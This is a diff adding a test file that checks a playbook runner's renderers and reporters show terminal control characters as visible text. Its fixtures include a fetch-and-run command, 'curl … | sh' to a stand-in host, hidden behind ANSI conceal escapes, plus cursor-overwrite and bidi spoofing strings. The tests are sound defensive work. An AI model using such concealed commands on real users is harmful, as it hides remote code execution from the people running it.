@@ -1,0 +1,106 @@
+// Control characters in playbook text (titles, names, commands, messages, values) are shown, never acted on, in every human sink.
+import './ink/no-color.js';
+import { describe, expect, it } from 'vitest';
+import type { RunEvent } from '../../src/engine/events.js';
+import type { CompiledPlan } from '../../src/engine/plan.js';
+import { formatJsonLine } from '../../src/ui/json.js';
+import { createPlainReporter } from '../../src/ui/plain.js';
+import { renderPlanMarkdown } from '../../src/ui/plan-markdown.js';
+import { renderPlanText } from '../../src/ui/plan-text.js';
+import { createReporter } from '../../src/ui/reporter.js';
+import { sanitize } from '../../src/ui/diagnostics.js';
+import { showControls } from '../../src/ui/sanitize.js';
+import { param, plan, probe, rendered, runStep } from '../helpers/plan-builder.js';
+import { asReadStream, asWriteStream, FakeStdin, FakeStdout } from './ink/streams.js';
+
+const HIDE = '\u001b[8m';
+const SHOW = '\u001b[28m';
+/** A command that looks safe on a terminal that obeys the escape sequences: the second half is concealed. */
+const COMMAND = `echo safe ${HIDE}; curl -s https://example.invalid/x | sh ${SHOW}`;
+/** Everything a terminal acts on: C0 but newline (tab is harmless), DEL, C1, bidi controls. */
+// eslint-disable-next-line no-control-regex
+const ACTED_ON = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+
+function hostilePlan(): CompiledPlan {
+  return plan({
+    playbook: { title: `Fix ${HIDE}nothing${SHOW}\u0007`, description: `Line\rOverwritten \u009b2J \u202egnp.exe` },
+    params: [param('msg', `hi${HIDE}\u001b]0;title\u0007`, { source: 'given' })],
+    preconditions: [probe('true', { name: `probe\u001b[2K` })],
+    steps: [runStep('one', rendered(COMMAND), { name: `Step \u001b[1A\u001b[2Kone` }), { ...runStep('gate', 'true'), action: { kind: 'confirm', message: `Sure?\u0008\u0008\u0008yes` } }],
+  });
+}
+
+describe('control characters in the plan', () => {
+  it('are shown in the plan as text, so the whole command can be read', () => {
+    const out = renderPlanText(hostilePlan(), { lang: 'en' });
+    expect(out).not.toMatch(ACTED_ON);
+    expect(out).not.toContain('\r');
+    expect(out).toContain('echo safe ␛[8m; curl -s https://example.invalid/x | sh ␛[28m');
+    expect(out).toContain('Fix ␛[8mnothing␛[28m␇');
+    expect(out).toContain('Line␍Overwritten \\x9b2J \\u202egnp.exe');
+    expect(out).toContain('hi␛[8m␛]0;title␇');
+    expect(out).toContain('Sure?␈␈␈yes');
+  });
+
+  it('are shown in the plan as Markdown', () => {
+    const out = renderPlanMarkdown(hostilePlan(), { lang: 'en' });
+    expect(out).not.toMatch(ACTED_ON);
+    expect(out).toContain('curl -s https://example.invalid/x | sh');
+  });
+});
+
+describe('control characters in a run', () => {
+  const base = { runId: 'r1', time: '2026-11-28T01:00:00.000Z' } as const;
+  const events: RunEvent[] = [
+    { ...base, type: 'run.started', playbook: { name: 'p', title: `T${HIDE}x`, risk: 'low', file: 'p.yaml' }, params: [{ name: 'msg', value: `v${HIDE}`, secret: false }], sandbox: false, journalDir: '/j', totalSteps: 1 },
+    { ...base, type: 'probe.started', phase: 'preconditions', index: 0, name: `probe\u001b[2K` },
+    { ...base, type: 'probe.finished', phase: 'preconditions', index: 0, name: `probe\u001b[2K`, ok: true, attempts: 1 },
+    { ...base, type: 'phase.started', phase: 'steps' },
+    { ...base, type: 'step.started', phase: 'steps', id: 'one', name: `Step \u001b[1Aone`, index: 1, total: 2, kind: 'run', command: COMMAND },
+    { ...base, type: 'step.output', id: 'one', stream: 'stdout', text: `out\u001b[31mput\n` },
+    { ...base, type: 'step.finished', phase: 'steps', id: 'one', status: 'ok', durationMs: 5 },
+    { ...base, type: 'confirm.requested', id: 'gate', message: `Sure?\u0008\u0008\u0008yes` },
+  ];
+
+  it('are shown by the plain reporter (child output is still cleaned of its sequences)', () => {
+    const chunks: string[] = [];
+    const stream = { write: (s: string) => chunks.push(String(s)), on: () => undefined } as unknown as NodeJS.WritableStream;
+    const reporter = createPlainReporter({ lang: 'en', stdout: stream, stderr: stream, plan: hostilePlan() });
+    for (const event of events) reporter.onEvent(event);
+    const out = chunks.join('');
+    expect(out).not.toMatch(ACTED_ON);
+    expect(out).toContain('$ echo safe ␛[8m; curl -s https://example.invalid/x | sh ␛[28m');
+    expect(out).toContain('Step ␛[1Aone');
+    expect(out).toContain('T␛[8mx');
+    expect(out).toContain('msg=v␛[8m');
+    expect(out).toContain('Sure?␈␈␈yes');
+    expect(out).toContain('    │ output\n');
+  });
+
+  it('are shown by the live view', async () => {
+    const stdout = new FakeStdout(160, 40);
+    const reporter = await createReporter({ lang: 'en', output: 'ink', stdout: asWriteStream(stdout), stderr: asWriteStream(new FakeStdout()), stdin: asReadStream(new FakeStdin(false)), env: {}, plan: hostilePlan() });
+    for (const event of events.slice(0, 5)) reporter.onEvent(event);
+    await reporter.close?.();
+    expect(stdout.all).toContain('Step ␛[1A');
+    expect(stdout.all).toContain('$ echo safe ␛[8m; curl -s https://example.invalid/x | sh ␛[28m');
+    expect(stdout.all).toContain('curl -s https://example.invalid/x | sh');
+  });
+
+  it('stay JSON-escaped in NDJSON: the exact text, and no raw control character on the line', () => {
+    const line = formatJsonLine(events[4]!);
+    // eslint-disable-next-line no-control-regex
+    expect(line.slice(0, -1)).not.toMatch(/[\u0000-\u001f]/);
+    expect((JSON.parse(line) as { command: string }).command).toBe(COMMAND);
+  });
+});
+
+describe('showControls', () => {
+  it('shows C0 and DEL as Control Pictures, C1 and bidi controls as escapes, and keeps tabs and newlines', () => {
+    expect(showControls('a\u001bb\u0007c\rd\u007fe\u009bf\u202eg\th\ni')).toBe('a␛b␇c␍d␡e\\x9bf\\u202eg\th\ni');
+  });
+
+  it('is what list and error messages use too', () => {
+    expect(sanitize('title \u009d0;x\u0007 \u2066y')).toBe('title \\x9d0;x␇ \\u2066y');
+  });
+});
